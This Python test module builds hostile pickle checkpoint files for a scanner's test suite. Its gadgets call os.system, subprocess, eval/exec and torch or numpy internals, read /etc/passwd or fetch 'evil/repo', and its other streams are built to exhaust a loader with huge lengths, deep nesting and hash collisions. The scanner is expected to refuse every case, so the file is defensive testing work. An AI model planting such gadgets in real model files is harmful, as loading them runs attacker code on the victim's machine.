"""Pickled checkpoints that run code, reach for names they must not have, or exhaust the reader.

Every code-running one would create the file named by `TRAP` in the current folder.
"""

from __future__ import annotations

import pickle
import struct
from functools import partial
from pathlib import Path

from tests.hostile.case import Cases, End
from tests.hostile.zips import checkpoint

GADGETS = Cases("pickle gadgets", ".pt")
STREAMS = Cases("pickle streams", ".pt")

TRAP = "initlint_was_here"
COMMAND = f"touch {TRAP}"
CODE = f"open('{TRAP}', 'w').close()"

STOP = b"."


def text(value: str) -> bytes:
    """BINUNICODE."""
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """GLOBAL, a tuple of arguments, REDUCE."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def proto(body: bytes, version: int = 2) -> bytes:
    return bytes([0x80, version]) + body + STOP


_CALLS: dict[str, tuple[str, str, tuple[bytes, ...]]] = {
    "os_system": ("os", "system", (text(COMMAND),)),
    "posix_system": ("posix", "system", (text(COMMAND),)),
    "nt_system": ("nt", "system", (text(COMMAND),)),
    "eval": ("builtins", "eval", (text(CODE),)),
    "exec": ("builtins", "exec", (text(CODE),)),
    "old_eval": ("__builtin__", "eval", (text(CODE),)),
    "open": ("builtins", "open", (text(TRAP), text("w"))),
    "getattr": ("builtins", "getattr", (text(""), text("__class__"))),
    "import": ("builtins", "__import__", (text("antigravity"),)),
    "popen": ("subprocess", "Popen", (text(COMMAND),)),
    "check_output": ("subprocess", "check_output", (text(COMMAND),)),
    "runpy": ("runpy", "run_path", (text("/etc/passwd"),)),
    "pip": ("pip", "main", ()),
    "webbrowser": ("webbrowser", "open", (text("http://example.com"),)),
    "urllib": ("urllib.request", "urlopen", (text("http://example.com"),)),
    "socket": ("socket", "create_connection", ()),
    "import_module": ("importlib", "import_module", (text("antigravity"),)),
    "partial": ("functools", "partial", ()),
    "method_caller": ("operator", "methodcaller", (text("system"), text(COMMAND))),
    "attrgetter": ("operator", "attrgetter", (text("system"),)),
    "timeit": ("timeit", "timeit", (text(CODE),)),
    "profile": ("cProfile", "run", (text(CODE),)),
    "debugger": ("bdb", "Bdb", ()),
    "code": ("code", "InteractiveInterpreter", ()),
    "types": ("types", "FunctionType", ()),
    "ctypes": ("ctypes", "CDLL", (text("libc.so.6"),)),
    "rmtree": ("shutil", "rmtree", (text("/no/such/folder"),)),
    "loads": ("pickle", "loads", (b"C\x02N.",)),
    "pickle_dispatch": ("_pickle", "Unpickler", ()),
    "marshal": ("marshal", "loads", (b"C\x01N",)),
    "numpy_load": ("numpy", "load", (text("/etc/passwd"),)),
    "numpy_eval": ("numpy.f2py.crackfortran", "myeval", (text(CODE),)),
    "numpy_fromfile": ("numpy", "fromfile", (text("/etc/passwd"),)),
    "numpy_memmap": ("numpy", "memmap", (text(TRAP),)),
    "numpy_exec": ("numpy.testing._private.utils", "runstring", (text(CODE), b"}")),
    "torch_load": ("torch", "load", (text("/etc/passwd"),)),
    "torch_hub": ("torch.hub", "load", (text("evil/repo"), text("x"))),
    "torch_jit": ("torch.jit.unsupported_tensor_ops", "execWrapper", (text(CODE), b"}", b"}")),
    "torch_inductor": ("torch._inductor.codecache", "PyCodeCache", ()),
    "torch_dynamo": ("torch._dynamo.guards", "GuardBuilder.get", (text(CODE),)),
    "torch_from_file": ("torch", "from_file", (text("/etc/passwd"),)),
    "torch_storage": ("torch.storage", "_load_from_bytes", (b"C\x02N.",)),
    "torch_module_class": ("torch.nn.modules.linear", "Linear", ()),
    "user_class": ("__main__", "Net", ()),
    "idle": ("idlelib.pyshell", "ModifiedInterpreter.runcommand", (text(CODE),)),
    "dotted_escape": ("torch._utils", "_rebuild_tensor_v2.__globals__", ()),
    "dotted_module": ("collections", "OrderedDict.__init__.__globals__", ()),
    "sys_modules": ("sys", "modules", ()),
    "terminal_name": ("evil\x1b[31m", "::error::x", ()),
}
for _name, (_module, _attribute, _arguments) in _CALLS.items():
    GADGETS.add(_name, End.REFUSED)(
        partial(checkpoint, pickled=proto(call(_module, _attribute, *_arguments)))
    )
GADGETS.content("plain_os_system", proto(call("os", "system", text(COMMAND))))
GADGETS.content("protocol_0", f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode())
GADGETS.content("inst", b"\x80\x02(" + text(COMMAND) + b"ios\nsystem\n.")
GADGETS.content("obj", b"\x80\x02(cos\nsystem\n" + text(COMMAND) + b"o.")
GADGETS.content(
    "stack_global", proto(text("os") + text("system") + b"\x93" + text("x") + b"\x85R", 4)
)
GADGETS.content("newobj", proto(b"csubprocess\nPopen\n" + text(COMMAND) + b"\x85\x81"))
GADGETS.content("newobj_ex", proto(b"csubprocess\nPopen\n" + text(COMMAND) + b"\x85}\x92", 4))
GADGETS.content("extension_code", proto(b"\x82\x01"))
GADGETS.content("hidden_behind_weights", proto(b"}" + call("os", "system", text(COMMAND)) + b"0"))
GADGETS.content(
    "second_pickle_runs",
    proto(b"}") + proto(call("os", "system", text(COMMAND))),
    End.ANY,
)
GADGETS.content(
    "state_of_ordered_dict",
    proto(call("collections", "OrderedDict") + b"}" + text("__class__") + b"cos\nsystem\nsb"),
)
GADGETS.content(
    "argument_runs_first",
    proto(b"ccollections\nOrderedDict\n(" + call("os", "system", text(COMMAND)) + b"tR"),
)
GADGETS.content("dict_with_class_key", proto(b"}cos\nsystem\nK\x01s"))


def _nested(opening: bytes, depth: int, closing: bytes) -> bytes:
    return proto(opening * depth + closing * depth)


STREAMS.content("memo_index_huge", proto(b"Nr\xff\xff\xff\x7f"))
STREAMS.content("memo_get_missing", proto(b"j\x01\x00\x00\x00"))
STREAMS.content("memo_put_text", proto(b"Np99999999999999999999\n"))
STREAMS.content("bytes_length_huge", proto(b"\x8e" + struct.pack("<Q", 2**62), 4))
STREAMS.content("text_length_huge", proto(b"\x8d" + struct.pack("<Q", 2**63), 4))
STREAMS.content("text_length_4g", proto(b"X\xff\xff\xff\xff"))
STREAMS.content("long_negative_length", proto(b"\x8b\xff\xff\xff\xff"))
STREAMS.content(
    "long_of_a_megabyte", proto(b"\x8b" + struct.pack("<I", 1 << 20) + b"\x7f" * (1 << 20))
)
STREAMS.content("decimal_of_a_megabyte", b"L" + b"9" * (1 << 20) + b"L\n.")
STREAMS.content("frame_huge", proto(b"\x95" + struct.pack("<Q", 2**62) + b"N", 4))
STREAMS.content("bytearray_huge", proto(b"\x96" + struct.pack("<Q", 2**40), 5))
STREAMS.content("buffer_out_of_band", proto(b"\x97", 5))
STREAMS.content("lists_nested", _nested(b"]", 200_000, b"a"))
STREAMS.content("tuples_nested", proto(b")" + b"\x85" * 200_000))
STREAMS.content("dicts_nested", proto(b"}" + (b"}" + text("k")) * 100_000 + b"s" * 1))
STREAMS.content("list_in_itself", proto(b"]q\x00h\x00a"))
STREAMS.content("dict_in_itself", proto(b"}q\x00" + text("k") + b"h\x00s"))
STREAMS.content("stack_underflow", proto(b"a"))
STREAMS.content("mark_missing", proto(b"t"))
STREAMS.content("marks_200000", proto(b"(" * 200_000))
STREAMS.content("stop_missing", b"\x80\x02N")
STREAMS.content("stop_only", STOP)
STREAMS.content("protocol_99", b"\x80\x63N.")
STREAMS.content("unknown_opcode", proto(b"\xff"))
STREAMS.content("unhashable_key", proto(b"}]K\x01s"))
STREAMS.content("none_only", proto(b"N"))
STREAMS.content("number_only", proto(b"K\x01"))
STREAMS.content("surrogate_text", proto(text("\udc80")))
STREAMS.content("text_not_utf8", proto(b"X\x02\x00\x00\x00\xff\xfe"))
STREAMS.content("persistent_text", proto(b"Pabc\n"))
STREAMS.content("persistent_number", proto(b"K\x01Q"))
STREAMS.content("persistent_short", proto(b"(" + text("storage") + b"tQ"))


STREAMS.content(
    "set_of_nested_tuple",
    proto(b"cbuiltins\nset\n]N" + b"\x85" * 200_000 + b"a\x85R"),
)
STREAMS.content(
    "pairs_of_nested_tuple",
    proto(b"ccollections\nOrderedDict\n]N" + b"\x85" * 200_000 + b"K\x01\x86a\x85R"),
)


@STREAMS.add("equal_hashes_in_set", End.REFUSED)
def _set_hashes(folder: Path) -> None:
    keys = b"".join(
        b"\x8a\x0a" + (i * (2**61 - 1)).to_bytes(10, "little", signed=True) for i in range(30_000)
    )
    (folder / "model.pt").write_bytes(proto(b"cbuiltins\nset\n](" + keys + b"e\x85R"))


@STREAMS.add("laughs", End.REFUSED)
def _laughs(folder: Path) -> None:
    body = b"]q\x00"
    for level in range(40):
        body += b"(" + (b"h" + bytes([level])) * 10 + b"lq" + bytes([level + 1])
    (folder / "model.pt").write_bytes(proto(body))


@STREAMS.add("equal_hashes", End.REFUSED)
def _hashes(folder: Path) -> None:
    keys = b"".join(
        b"\x8a\x0a" + (i * (2**61 - 1)).to_bytes(10, "little", signed=True) + b"N"
        for i in range(30_000)
    )
    (folder / "model.pt").write_bytes(proto(b"}(" + keys + b"u"))


@STREAMS.add("entries_2000000", End.REFUSED)
def _entries(folder: Path) -> None:
    (folder / "model.pt").write_bytes(proto(b"](" + b"K\x01" * 2_000_000 + b"e"))


@STREAMS.add("dump_of_numbers", End.REFUSED)
def _numbers(folder: Path) -> None:
    (folder / "model.pt").write_bytes(pickle.dumps({"lr": 0.1, "epoch": 3}, protocol=4))
